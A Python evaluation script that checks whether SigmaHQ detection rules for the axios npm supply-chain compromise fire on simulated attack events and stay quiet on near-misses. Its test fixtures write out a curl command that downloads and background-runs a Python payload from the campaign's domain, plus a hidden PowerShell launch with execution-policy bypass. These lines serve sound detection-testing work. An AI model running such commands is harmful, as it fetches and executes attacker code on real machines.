"""Sigma rules of others: how many are evaluated here, why the rest is refused, and whether seven known ones fire.

    python -m evals.sigma_rules --rules DIR

`DIR` holds rule files, such as a checkout of SigmaHQ's `rules-emerging-threats/2026/Malware`. Each file is read by
itself, unchanged. For the seven rules on the axios compromise (folder `Axios-NPM-Compromise`) events are made as the
published analyses describe the chain on each system, and others that only resemble it: each rule must fire on the first
and stay quiet on the second.
"""

from __future__ import annotations

import argparse
import sys
from collections import Counter
from pathlib import Path

from pratique.behaviour.detect import detect
from pratique.behaviour.ruleset import RuleSet, rules_of
from pratique.model.errors import ConfigurationError
from pratique.model.event import Ancestor, Event, Process

Pair = tuple[str, Event, Event]


def _process(image: str, *arguments: str, parent: str = "") -> Process:
    above = (Ancestor(4, parent, parent),) if parent else ()
    return Process(pid=5, parent=4, executable=image, arguments=arguments, ancestors=above)


def _start(image: str, *arguments: str, parent: str = "", original: str = "") -> Event:
    detail = {"original_file_name": original} if original else {}
    return Event("process.start", "osquery", 1, 1, process=_process(image, *arguments, parent=parent), detail=detail)


def _write(image: str, path: str) -> Event:
    return Event("file.write", "osquery", 1, 1, process=_process(image, image), path=path)


DOMAIN = "sfrclak" + ".com"
LINUX = f"curl -o /tmp/ld.py -d packages -s http://{DOMAIN}:8000/6202033 && nohup python3 /tmp/ld.py > /dev/null 2>&1 &"
HIDDEN = '"C:\\ProgramData\\wt.exe" -w hidden -ep bypass -file x.ps1'
KNOWN: dict[str, Pair] = {
    "file_event_lnx": ("linux", _write("/usr/bin/curl", "/tmp/ld.py"), _write("/usr/bin/curl", "/tmp/other.py")),
    "file_event_macos": (
        "macos", _write("/usr/local/bin/node", "/tmp/6202033"), _write("/usr/local/bin/node", "/tmp/62020"),
    ),
    "file_event_win": (
        "windows",
        _write("C:\\Program Files\\nodejs\\NODE.exe", "c:\\users\\ann\\AppData\\Local\\Temp\\6202033.VBS"),
        _write("C:\\x\\python.exe", "C:\\ProgramData\\wt.exe"),
    ),
    "net_dns": (
        "linux", Event("network.name", "notify", 1, 1, host=DOMAIN.upper()),
        Event("network.name", "notify", 1, 1, host=f"www.{DOMAIN}"),
    ),
    "proc_creation_lnx": (
        "linux", _start("/bin/sh", "sh", "-c", LINUX, parent="/usr/bin/node"),
        _start("/bin/sh", "sh", "-c", LINUX.replace("nohup ", "").replace(DOMAIN, "x.test"), parent="/usr/bin/node"),
    ),
    "proc_creation_macos": (
        "macos", _start("/bin/sh", "sh", "-c", "rm -rf /tmp/6202033"),
        _start("/bin/sh", "sh", "-c", "rm -rf /tmp/62033"),
    ),
    "proc_creation_win": (
        "windows", _start("C:\\ProgramData\\wt.exe", HIDDEN, original="powershell.exe"),
        _start("C:\\ProgramData\\wt.exe", HIDDEN),
    ),
}  # fmt: skip


def main(arguments: list[str]) -> int:
    """Print the table; 1 where one of the seven is there and does not do what it must."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--rules", type=Path, required=True)
    options = parser.parse_args(arguments)
    files = sorted((*options.rules.rglob("*.yml"), *options.rules.rglob("*.yaml")))
    read: dict[str, RuleSet] = {}
    refused: Counter[str] = Counter()
    for file in files:
        try:
            read[file.stem] = rules_of([(file.name, file.read_text("utf-8"))])
        except (ConfigurationError, UnicodeDecodeError) as error:
            what = error.what if isinstance(error, ConfigurationError) else "is not UTF-8"
            refused[what if len(what) < 90 else what[:89] + "…"] += 1
    print(f"{len(read)} of {len(files)} files are evaluated; refused: {sum(refused.values())}")
    for reason, number in refused.most_common(20):
        print(f"  {number:5}  {reason}")
    wrong = 0
    for begin, (product, fires, quiet) in KNOWN.items():
        for stem in [one for one in read if one.startswith(f"{begin}_axios_npm_compromise")]:
            right = bool(list(detect([fires], read[stem], product=product))) and not list(
                detect([quiet], read[stem], product=product)
            )
            wrong += not right
            print(f"{'fires and stays quiet' if right else 'WRONG'}  {stem}")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
